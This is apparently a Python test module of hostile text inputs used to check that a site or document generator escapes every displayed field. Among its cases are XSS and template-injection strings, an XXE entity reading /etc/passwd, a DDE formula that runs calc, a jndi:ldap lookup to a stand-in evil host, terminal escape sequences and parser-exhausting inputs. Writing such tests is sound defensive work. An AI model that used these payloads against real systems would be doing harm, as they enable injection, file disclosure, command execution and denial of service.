"""Text: what breaks pages, files, spreadsheets, terminals and eyes, in every field that shows text."""

from __future__ import annotations

import json

from tests.hostile.case import Case, one, titled


def _worded(name: str, text: str, *, title: str = "") -> Case:
    written = json.dumps(text, ensure_ascii=False)
    lines = [f"{key}: {written}" for key in ("excerpt", "category", "slug")]
    lines += [f"provider: {{name: {written}}}", f"authors: [{written}]", f"topics: [{written}]"]
    lines += [f"related: [{{title: {written}}}]", f"images: [{{url: https://i.example.org/1, title: {written}}}]"]
    return one(name, titled(*lines, title=written), title=title or text)


CASES = (
    # Pages.
    _worded("a comment that opens a script", "<!--<script>"),
    _worded("an end of a title", "</title></style></textarea><svg onload=alert(1)>"),
    _worded("an event", "\" onmouseover=alert(1) x=\""),
    _worded("entities", "&lt;script&gt;&#x3c;&amp;amp;"),
    _worded("line separators", "a\u2028b\u2029c", title="a b c"),
    _worded("templates", "<%= 7*7 %>{{constructor.constructor('alert(1)')()}}[[x]]"),
    _worded("Markdown", "[x](javascript:alert(1)) ![y](https://evil.example.org/beacon)"),
    _worded("names of objects", "__proto__"),
    # Files.
    _worded("an end of CDATA", "]]>]]&gt;<![CDATA[<x/>"),
    _worded("an entity of XML", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"),
    _worded("an end of a literal", '""" . <x:y> <x:z> "\\'),
    _worded("back slashes", "\\u0041\\n\\\\"),
    _worded("only quotes", "'\"'\"\"\""),
    _worded("a comma, a quote and an end of line", 'a,"b";c|d'),
    _worded("a separator of lists", " | ", title="|"),
    _worded("values that readers guess", "NaN"),
    _worded("null", "null"),
    # Spreadsheets.
    _worded("a formula behind a quote", "'=1+1"),
    _worded("a formula of another width", "＝1+1"),
    _worded("a formula of DDE", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _worded("formulas between separators", "a;=1+1;\u200b=2\t+3|-4", title="a;=1+1;\u200b=2 +3|-4"),
    _worded("a number that is none", "-1e999"),
    # Terminals and eyes.
    _worded("a title of a terminal", "\x1b]0;evil\x07\x1b[2J", title="\ufffd]0;evil\ufffd\ufffd[2J"),
    _worded("direction overrides", "\u202eabc\u2066def\u2069"),
    _worded("zero width only", "\u200b\u2060\ufeff", title="h"),
    _worded("combining marks", "Z" + "\u0301\u0317" * 500),
    _worded("composed and not", "é e\u0301"),
    _worded("an emoji of seven", "👨\u200d👩\u200d👧\u200d👦"),
    _worded("tags that nobody sees", "a\U000e0041\U000e0042b"),
    _worded("beyond the basic plane", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𓂀 \U0010fffd"),
    _worded("noncharacters", "a\ufdd0b\ufdefc", title="a\ufffdb\ufffdc"),
    _worded("the ends of what XML knows", "a\ud7ff\ue000\ufffd\U00010000\U0010fffd", title="a\ud7ff\ue000\ufffd\U00010000\U0010fffd"),
    _worded("notes between the lines", "\ufff9a\ufffab\ufffb\ufffc"),
    _worded("selectors of no character", "\ufe0f\ufe0e\u034f"),
    _worded("100,000 marks on one letter", "a" + "\u0300" * 100_000),
    _worded("a soft hyphen", "ab\u00adcd"),
    _worded("the longest ligature", "﷽" * 100),
    _worded("blanks that are none", "\u3164\u2800\u00ad", title="\u3164\u2800\u00ad"),
    _worded("a link of a terminal", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", title="\ufffd]8;;https://evil.example\ufffdx\ufffd]8;;\ufffd"),
    _worded("look-ups of a logger", "${jndi:ldap://evil.example.org/x} %s%n {0}"),
    _worded("a formula behind a wide blank", "\u3000=1+1", title="=1+1"),
    # Much.
    one("a million letters", titled(title="a" * 10**6), title="a" * 10**6),
    _worded("50,000 words", " ".join(["word"] * 50_000)),
    _worded("100,000 letters without a break", "x" * 100_000),
    _worded("100,000 angle brackets", "<" * 100_000),
    _worded("10,000 marks of a secret", "https://a:b@" * 10_000, title="https://" * 10_000),
    # Bodies, whose links are followed.
    one("a body of opening brackets", titled(body="[" * 20_000)),
    one("a body of opening parentheses", titled(body="[a](" * 20_000)),
    one("a body of stars", titled(body="*a_ " * 20_000)),
    one("a body of quotes", titled(body=">" * 20_000)),
    one("a body of back ticks", titled(body="`" * 1_001 + " a" * 20_000)),
    one("a body of references", titled(body="[a]: b\n" * 5_000 + "[a][a] " * 5_000)),
    one("a body of templates", titled(body="{{< ref " * 10_000)),
    one("a body of wikilinks", titled(body="[[" * 20_000)),
    one("a body of tags", titled(body="<a href=" * 20_000)),
    one("a body of comments", titled(body="<!--" * 20_000)),
    one("a body of dangerous links", titled(body="[a](javascript:alert(1)) [b](data:text/html,x) <file:///etc/passwd>")),
    one("a body with a password", titled(body="[a](https://me:hunter2@h.example.org/x) https://me:hunter2@h.example.org/y"), absent=("hunter2",)),
    one("a body of controls", titled(body="\x00\x1b[31m\x9b [a](https://h.example.org/\x07) \ufffe")),
    Case("a page of HTML", {"h.html": titled(body="<a href='javascript:alert(1)'>x</a><a href=//evil.example.org>y</a>" + "<div>" * 20_000)}),
)  # fmt: skip
